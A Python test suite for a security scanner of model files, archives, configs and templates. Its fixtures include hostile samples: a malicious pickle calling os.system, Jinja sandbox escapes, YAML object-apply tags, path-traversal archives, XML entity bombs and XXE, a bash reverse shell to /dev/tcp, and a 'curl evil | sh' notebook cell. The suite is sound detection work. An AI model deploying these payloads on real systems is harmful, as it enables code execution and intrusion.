"""What the scan says of one file of each hostile kind, exactly, and that harmless ones of the same kinds are green."""

import base64
import bz2
import gzip
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile

import pytest

from inspection.tests.safety_made import (
    TENSOR,
    cell,
    codes,
    entry,
    field,
    gguf,
    graph,
    hdf5,
    keras,
    lambda_layer,
    notebook,
    onnx,
    parquet,
    pe,
    png,
    safetensors,
    saved_model,
    scanned,
    tarred,
    zip_link,
    zipped,
)  # fmt: skip


class Evil:
    def __reduce__(self):
        return os.system, ("id",)


EVIL = pickle.dumps(Evil())
ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
TOKENIZER = json.dumps({"chat_template": [{"name": "default", "template": "ok"}, {"name": "tool_use", "template": ESCAPE}]})
MARSHALLED = "4wEAAAAAAAAAAAAAAAEAAAABAAAAQwAAAHMEAAAAZAFTAA=="
NAMES = json.dumps({"class_name": "Functional", "config": {"layers": [lambda_layer([MARSHALLED, None, None])]}}).encode()
ESCAPED = NAMES.replace(b"class_name", b"cl\\u0061ss_name").replace(b"Lambda", b"L\\u0061mbda")
BILLION = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "haha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
) + "]><a>&a9;</a>"  # fmt: skip
ARROW_TYPE = b"ARROW:schema\x18\xff" + base64.b64encode(bytes(33) + b"ARROW:extension:name arrow.py_extension_type" + bytes(9))


def link_tar(kind, target, name="data/link"):
    return tarred((entry(name, kind, target), b""))


DANGEROUS = {
    "pickle in zip": ("m.zip", zipped({"a/b.pkl": EVIL}), "dangerous_global"),
    "pickle without its name in zip": ("m.zip", zipped({"notes.txt": EVIL}), "dangerous_global"),
    "pickle in zip in tar in gzip": ("m.tar.gz", gzip.compress(tarred((entry("in.zip"), zipped({"b.pkl": EVIL})))), "dangerous_global"),
    "pickle in bzip2": ("m.pkl.bz2", bz2.compress(EVIL), "dangerous_global"),
    "pickle in xz": ("m.pkl.xz", lzma.compress(EVIL), "dangerous_global"),
    "pickle in second stream of gzip": ("m.pkl.gz", gzip.compress(pickle.dumps(1)) + gzip.compress(EVIL), "dangerous_global"),
    "pickle in npz": ("m.npz", zipped({"arr_0.npy": EVIL}, zipfile.ZIP_DEFLATED), "dangerous_global"),
    "pickle in LZMA zip": ("m.zip", zipped({"b.pkl": EVIL}, zipfile.ZIP_LZMA), "dangerous_global"),
    "pickle in truncated gzip": ("m.pkl.gz", gzip.compress(EVIL + os.urandom(99_999))[:50_000], "dangerous_global"),
    "pickle behind a picture": ("m.png", png() + zipped({"b.pkl": EVIL}), "dangerous_global"),
    "traversal in zip": ("d.zip", zipped({"a/../../b": "x"}), "archive_traversal"),
    "traversal with backslashes": ("d.zip", zipped({"..\\..\\b": "x"}), "archive_traversal"),
    "traversal in tar": ("d.tar", tarred((entry("../b"), b"x")), "archive_traversal"),
    "absolute path in zip": ("d.zip", zipped({"/etc/cron.d/b": "x"}), "archive_absolute_path"),
    "absolute path in tar": ("d.tar", tarred((entry("/etc/b"), b"x")), "archive_absolute_path"),
    "drive in zip": ("d.zip", zipped({"C:\\b": "x"}), "archive_absolute_path"),
    "symbolic link out of zip": ("d.zip", zip_link("a/l", "../../etc"), "archive_link"),
    "absolute link in zip": ("d.zip", zip_link("l", "/etc/passwd"), "archive_link"),
    "symbolic link out of tar": ("d.tar", link_tar(tarfile.SYMTYPE, "../../x"), "archive_link"),
    "hard link out of tar": ("d.tar", link_tar(tarfile.LNKTYPE, "/etc/passwd"), "archive_link"),
    "device in tar": ("d.tar", tarred((entry("null", tarfile.CHRTYPE), b"")), "archive_device"),
    "pipe in tar": ("d.tar", tarred((entry("p", tarfile.FIFOTYPE), b"")), "archive_device"),
    "long name in GNU tar": ("d.tar", tarred((entry("../" + "n" * 150), b"x"), form=tarfile.GNU_FORMAT), "archive_traversal"),
    "Lambda in .keras": ("m.keras", zipped({"metadata.json": "{}", "config.json": keras(lambda_layer([MARSHALLED]))}), "keras_lambda"),
    "Lambda of Keras 3": (
        "m.keras",
        zipped({"config.json": keras(lambda_layer({"class_name": "__lambda__", "config": {"code": MARSHALLED}}))}),
        "keras_lambda",
    ),
    "Lambda in config.json": ("config.json", keras(lambda_layer([MARSHALLED])), "keras_lambda"),
    "Lambda in HDF5": ("m.h5", hdf5(b"model_config", NAMES), "keras_lambda"),
    "Lambda in HDF5 with escaped letters": ("m.h5", hdf5(b"model_config", ESCAPED), "keras_lambda"),
    "Keras calls subprocess": (
        "config.json", keras({"module": "subprocess", "class_name": "Popen", "config": {}}), "keras_foreign_module",
    ),
    "Keras calls its own get_file": (
        "config.json", keras({"module": "keras.utils", "class_name": "function", "config": "get_file"}), "keras_foreign_module",
    ),
    "Keras wraps pickled torch": ("config.json", keras({"class_name": "TorchModuleWrapper", "config": {"module": "x"}}), "keras_torch_module"),
    "TensorFlow writes": ("saved_model.pb", saved_model("Add", "WriteFile"), "tensorflow_writes"),
    "TensorFlow writes in a function": ("saved_model.pb", saved_model("WriteFile", in_function=True), "tensorflow_writes"),
    "frozen graph writes": ("frozen.pb", graph("Add", "WriteFile"), "tensorflow_writes"),
    "Lambda beside a SavedModel": (
        "keras_metadata.pb",
        field(1, b"\x10\x01", field(5, '{"class_name": "Dense", "config": {}}')) + field(1, b"\x10\x02", field(5, keras(lambda_layer([MARSHALLED])))),
        "keras_lambda",
    ),
    "ONNX reads outside in a loop": (
        "m.onnx",
        b"\x08\x08" + field(7, field(1, field(5, field(6, field(5, field(13, field(1, "location"), field(2, "/etc/passwd"))))))),
        "onnx_external_path",
    ),
    "YAML calls in escaped letters": ("a.yaml", "a: !!python/%6fbject/apply:os.system ['id']\n", "yaml_python_object"),
    "YAML calls by its full tag": ("a.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n", "yaml_python_object"),
    "YAML shortens the tag": ("a.yaml", "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['id']\n", "yaml_python_object"),
    "ONNX reads outside": ("m.onnx", onnx(location="../../etc/passwd"), "onnx_external_path"),
    "YAML calls": ("params.yaml", "a: 1\nb: !!python/object/apply:os.system ['id']\n", "yaml_python_object"),
    "Hydra calls": ("params.yaml", "model:\n  _target_: os.system\n  command: id\n", "config_target"),
    "configuration calls": ("config.json", '{"x": {"_target_": "builtins.exec"}}', "config_target"),
    "template escapes": ("chat_template.jinja", ESCAPE, "template_escape"),
    "template escapes by index": ("chat_template.jinja", "{{ x['__globals__'] }}", "template_escape"),
    "template joins a hidden name": ("chat_template.jinja", "{{ x['__glo' ~ 'bals__'] }}", "template_escape"),
    "template reverses a hidden name": ("chat_template.jinja", "{{ x['__slabolg__'[::-1]] }}", "template_escape"),
    "template by attr": ("chat_template.jinja", "{{ x|attr(y) }}", "template_attr"),
    "template maps attr": ("chat_template.jinja", "{{ [x]|map('attr', y)|list }}", "template_attr"),
    "template loops for ever": ("chat_template.jinja", "{% for i in range(10 ** 9) %}x{% endfor %}", "template_bomb"),
    "template loops in loops": (
        "chat_template.jinja", "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}", "template_bomb",
    ),
    "template fills memory": ("chat_template.jinja", "{{ 'x' * 99999999999 }}", "template_bomb"),
    "template of cycler": ("chat_template.jinja", "{{ cycler.__init__.__globals__.os }}", "template_escape"),
    "template in tokenizer's list": ("tokenizer_config.json", TOKENIZER, "template_escape"),
    "template in GGUF": ("m.gguf", gguf(tokenizer__chat_template=ESCAPE), "template_escape"),
    "second template in GGUF": ("m.gguf", gguf(tokenizer__chat_template="ok", tokenizer__chat_template__tool=ESCAPE), "template_escape"),
    "program as weights": ("model.safetensors", ELF, "disguised_program"),
    "program as picture": ("cat.png", pe(), "disguised_program"),
    "Mach-O as text": ("readme.txt", b"\xcf\xfa\xed\xfe" + bytes(60), "disguised_program"),
    "XML that grows": ("a.xml", BILLION, "xml_entity_bomb"),
    "packages' path hook": ("evil.pth", "/usr/lib\nimport os; os.system('id')\n", "python_path_hook"),
    "pickled type in Parquet": ("t.parquet", parquet(ARROW_TYPE), "arrow_pickled_type"),
    "pickled type in an Arrow stream": (
        "t.arrow", b"\xff\xff\xff\xff" + struct.pack("<I", 40) + b"arrow.py_extension_type".ljust(40), "arrow_pickled_type",
    ),
}  # fmt: skip

CAUTION = {
    "custom code": ("config.json", '{"auto_map": {"AutoModel": "modeling_x.XModel"}}', "custom_code"),
    "custom tokenizer": ("tokenizer_config.json", '{"auto_map": {"AutoTokenizer": ["tok.Slow", null]}}', "custom_code"),
    "custom pipeline": ("config.json", '{"custom_pipelines": {"go": {"impl": "pipe.Go"}}}', "custom_pipelines"),
    "trusts by itself": ("config.json", '{"a": [{"trust_remote_code": true}]}', "trust_remote_code"),
    "adapter of another library": ("adapter_config.json", '{"auto_mapping": {"parent_library": "evil", "base_model_class": "X"}}', "custom_code"),
    "pipeline of diffusers": ("model_index.json", '{"_class_name": "P", "unet": ["my_unet", "Net"], "vae": ["diffusers", "V"]}', "custom_code"),
    "module of a sentence transformer": ("modules.json", '[{"idx": 0, "type": "sentence_transformers.models.Pooling"}, {"type": "x.Y"}]', "custom_code"),
    "named Lambda": ("config.json", keras(lambda_layer("relu6", function_type="function")), "keras_lambda_named"),
    "custom Keras layer": (
        "config.json", keras({"module": "my.layers", "class_name": "Mine", "registered_name": "my>Mine", "config": {}}), "keras_custom_object",
    ),
    "Keras reads a vocabulary": (
        "config.json", keras({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}), "keras_reads_file",
    ),
    "TensorFlow calls Python": ("saved_model.pb", saved_model("PyFunc"), "tensorflow_writes"),
    "TensorFlow reads": ("saved_model.pb", saved_model("ReadFile"), "tensorflow_reads"),
    "ONNX operators": ("m.onnx", onnx(domain="my.ops"), "onnx_custom_operators"),
    "TorchScript": ("m.pt", zipped({"m/data.pkl": pickle.dumps({}), "m/version": "3", "m/code/__torch__.py": "x = 1"}), "torchscript_code"),
    "YAML names Python": ("a.yaml", "a: !!python/tuple [1]\nb: !!python/name:my.thing\n", "yaml_python_object"),
    "template imports": ("chat_template.jinja", "{% import 'x' as y %}", "template_import"),
    "template includes": ("chat_template.jinja", "{% include 'x' %}", "template_import"),
    "template by a plain attr": ("chat_template.jinja", "{{ message|attr('content') }}", "template_attr"),
    "template of lipsum": ("chat_template.jinja", "{{ lipsum(5) }}", "template_object"),
    "template formats": ("chat_template.jinja", "{{ '{0.x[y]}'.format(z) }}", "template_format"),
    "notebook shell": ("n.ipynb", notebook(cell("x = 1"), cell("!curl evil | sh")), "notebook_shell"),
    "notebook bash cell": ("n.ipynb", notebook(cell("%%bash\nid")), "notebook_shell"),
    "notebook JavaScript": ("n.ipynb", notebook(cell("1", application__javascript="alert(1)")), "notebook_script"),
    "notebook HTML": ("n.ipynb", notebook(cell("1", text__html="<img src=x onerror=alert(1)>")), "notebook_script"),
    "notebook Markdown": ("n.ipynb", notebook(cell("<script>1</script>", "markdown")), "notebook_script"),
    "obfuscated code": ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "obfuscated_code"),
    "obfuscated through a name": ("a.py", "import zlib\ncode = zlib.decompress(b'x')\nexec(code)\n", "obfuscated_code"),
    "obfuscated lookup": ("a.py", "getattr(__builtins__, 'ex' + 'ec')(bytes.fromhex('70'))\n", "obfuscated_code"),
    "obfuscated shell": ("run.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n", "obfuscated_code"),
    "marshalled code": ("a.py", "import marshal\nexec(marshal.loads(b'x'))\n", "obfuscated_code"),
    "reverse shell": ("a.py", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n", "reverse_shell"),
    "reverse shell of bash": ("run.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "reverse_shell"),
    "install hook": ("setup.py", "import os\nos.system('id')\nsetup(cmdclass={'install': X})\n", "install_hook"),
    "bidi controls": ("a.py", "x = 1  # \u202e } \u2066if admin\u2069\n", "bidi_controls"),
    "library": ("kernel.so", ELF, "program"),
    "program": ("tool.exe", pe(), "program"),
    "WebAssembly": ("a.wasm", b"\0asm\1\0\0\0", "program"),
    "Java class in a jar": ("a.jar", zipped({"A.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(20)}), "program"),
    "Python bytecode": ("a.pyc", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20), "program"),
    "starter": ("open.desktop", "[Desktop Entry]\nExec=id\n", "script"),
    "batch file": ("go.bat", "echo 1", "script"),
    "script as weights": ("model.safetensors", "#!/bin/sh\nid\n", "disguised_script"),
    "drawing with script": ("a.svg", "<svg><script>1</script></svg>", "markup_script"),
    "page with handler": ("a.html", "<p>x</p><img src=x onerror=alert(1)>", "markup_script"),
    "page without its name": ("LICENSE", "<!DOCTYPE html><script>1</script>", "markup_script"),
    "XML from elsewhere": ("a.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml_external_entity"),
    "PDF with script": ("a.pdf", "%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (x)>> >>", "document_action"),
    "macros": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99) + "_VBA_PROJECT".encode("utf-16-le"), "office_macros"),
    "zip behind a picture": ("a.png", png() + zipped({"a.txt": "x"}), "polyglot"),
    "control characters in names": ("d.zip", zipped({"a\u202etxt.exe": "x"}), "archive_strange_name"),
}  # fmt: skip

SAFE = {
    "text": ("README.md", "# Model\n\nRun `pip install x`. It costs $5.\n"),
    "Chinese text": ("README.md", "# 模型\n\n说明“文字”。".encode("gb18030")),
    "UTF-16": ("a.txt", "hello".encode("utf-16")),
    "nothing": ("__init__.py", b""),
    "code": ("train.py", "import os, subprocess, torch\nsubprocess.run(['ls'])\nmodel.eval()\ntorch.compile(model)\nexec(open('a.py').read())\n"),
    "setup": ("setup.py", "from setuptools import setup\nsetup(name='x', cmdclass={'build_ext': BuildExtension})\n"),
    "shell": ("run.sh", "#!/bin/bash\npython train.py --lr 1e-4\n"),
    "configuration": ("config.json", '{"architectures": ["LlamaForCausalLM"], "hidden_size": 64}'),
    "pipeline": ("model_index.json", '{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet"], "x": [null, null]}'),
    "adapter": ("adapter_config.json", '{"auto_mapping": {"parent_library": "transformers.models.llama", "base_model_class": "L"}}'),
    "YAML": ("data.yaml", "names: [a, b]\nmodel:\n  _target_: nemo.collections.asr.Model\n"),
    "template": (
        "chat_template.jinja",
        "{%- for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] | trim }}{% generation %}{{ x }}{% endgeneration %}{% endfor %}",
    ),
    "tokenizer": ("tokenizer_config.json", json.dumps({"chat_template": "{{ bos_token }}{{ messages[0].content }}", "a": None})),
    "safetensors": ("m.safetensors", TENSOR),
    "GGUF": ("m.gguf", gguf(tokenizer__chat_template="{{ messages[0]['content'] }}")),
    "Keras": ("m.keras", zipped({"config.json": keras({"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}})})),
    "HDF5 weights": ("w.h5", hdf5(b"weight_names")),
    "HDF5 model": ("m.h5", hdf5(b"model_config", keras({"class_name": "Dense", "config": {}}).encode())),
    "SavedModel": ("saved_model.pb", saved_model("MatMul", "RestoreV2", "SaveV2")),
    "ONNX": ("m.onnx", onnx(location="weights.bin")),
    "sentencepiece": ("tokenizer.model", field(1, field(1, "a"), b"\x15\0\0\0\0", b"\x18\x02") * 3 + field(2, b"\x08\x01")),
    "zip": ("d.zip", zipped({"a/": "", "a/b.txt": "x", "c.png": png()}, zipfile.ZIP_DEFLATED)),
    "link inside": ("d.zip", zip_link("a/l", "../b")),
    "tar": ("d.tar.gz", gzip.compress(tarred((entry("a", tarfile.DIRTYPE), b""), (entry("a/b.json"), b"{}"), (entry("l", tarfile.SYMTYPE, "a/b.json"), b"")))),
    "torch": ("m.pt", zipped({"m/data.pkl": pickle.dumps({}), "m/version": "3", "m/data/0": os.urandom(64)})),
    "picture": ("a.png", png()),
    "sound": ("a.wav", b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(40)),
    "Parquet": ("t.parquet", parquet()),
    "CSV": ("t.csv", "a,b\n1,2\n" * 1000),
    "notebook": ("n.ipynb", notebook(cell("import numpy as np\nx != y"), cell("df", text__html="<table><style scoped>a</style></table>", image__png="aGk="))),
    "page": ("a.html", "<html><body><p>Hello</p></body></html>"),
    "drawing": ("a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>'),
    "PDF": ("a.pdf", "%PDF-1.7\n1 0 obj <</Type /Page>> endobj"),
}  # fmt: skip

UNSCANNED = {
    "7z": ("d.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "unread_archive"),
    "rar": ("d.rar", b"Rar!\x1a\x07\x01\0" + bytes(50), "unread_archive"),
    "zstd": ("d.tar.zst", b"\x28\xb5\x2f\xfd" + bytes(50), "unread_archive"),
    "unknown": ("a.xyz", b"\x01\x02\x03\x04" + bytes(50), "no_rule"),
    "bad picture": ("a.png", b"\x01\x02\x03\x04" + bytes(50), "broken_header"),
    "safetensors that goes on": ("m.safetensors", TENSOR + b"more", "broken_header"),
    "safetensors of 2^60 bytes": ("m.safetensors", struct.pack("<Q", 1 << 60) + b"{}", "broken_header"),
    "safetensors with a gap": ("m.safetensors", safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, bytes(8)), "broken_header"),
    "GGUF cut short": ("m.gguf", gguf(a="b")[:-1], "broken_header"),
    "Parquet without its end": ("t.parquet", parquet()[:-1], "broken_header"),
    "truncated zip": ("d.zip", zipped({"a": "x" * 1000})[:-30], "truncated"),
    "truncated gzip": ("d.gz", gzip.compress(os.urandom(1000))[:-30], "truncated"),
    "broken gzip": ("d.gz", gzip.compress(b"x" * 999)[:10] + b"\x07" * 99, "broken_archive"),
    "truncated tar": ("d.tar", tarred((entry("a"), b"x" * 5000))[:2000], "truncated"),
    "HDF5 garbage": ("m.h5", hdf5(b"model_config", b"{garbage"), "keras_config_unreadable"),
    "deep JSON": ("config.json", "[" * 100_000, "json_too_deep"),
    "broken JSON": ("config.json", '{"a": ', "broken_json"),
    "broken notebook": ("n.ipynb", '{"cells": 3}', "broken_notebook"),
    "broken template": ("chat_template.jinja", "{% for %}", "broken_template"),
    "HDF5 without a superblock": ("m.h5", b"\x89HDF\r\n\x1a\n" + b"\x09" * 90, "broken_header"),
    "truncated HDF5": ("m.h5", hdf5()[:40] + b"\0\0\1\0\0\0\0\0" + bytes(99), "truncated"),
    "text as graph": ("saved_model.pb", "hello", "broken_protobuf"),
    "broken graph": ("saved_model.pb", b"\x01\x02\x03\x04" * 9, "broken_protobuf"),
    "text with binary": ("a.csv", b"a,b\n" * 3000 + bytes(10), "binary_in_text"),
}  # fmt: skip


def each(cases):
    return pytest.mark.parametrize("case", cases.values(), ids=cases)


@each(DANGEROUS)
def test_dangerous(case):
    path, data, code = case
    scan = scanned(path, data)
    assert (scan.verdict, code in codes(scan)) == ("dangerous", True), scan


@each(CAUTION)
def test_caution(case):
    path, data, code = case
    scan = scanned(path, data)
    assert (scan.verdict, codes(scan)) == ("caution", [code]), scan


@each(SAFE)
def test_safe(case):
    assert scanned(*case) == scanned("empty", b"")


@each(UNSCANNED)
def test_unscanned_says_why(case):
    path, data, code = case
    scan = scanned(path, data)
    assert (scan.verdict, codes(scan)[0]) == ("unscanned", code), scan


def test_place_inside_of_archives_is_named():
    (finding,) = scanned("m.tar", tarred((entry("d/in.zip"), zipped({"b.pkl": EVIL})))).findings
    assert (finding.where, finding.facts["global"]) == ("d/in.zip/b.pkl", "posix.system")


def test_custom_code_names_its_classes():
    (finding,) = scanned("config.json", '{"auto_map": {"AutoConfig": "c.C", "AutoModel": "m.M"}}').findings
    assert finding.facts == {"classes": "c.C, m.M"}


def test_no_danger_is_lost_among_many_cautions():
    members = {f"{number}.py": "exec(base64.b64decode('a'))" for number in range(300)}
    scan = scanned("m.zip", zipped({**members, "last.pkl": EVIL}))
    assert (scan.verdict, scan.findings[0].code, len(scan.findings)) == ("dangerous", "dangerous_global", 21)
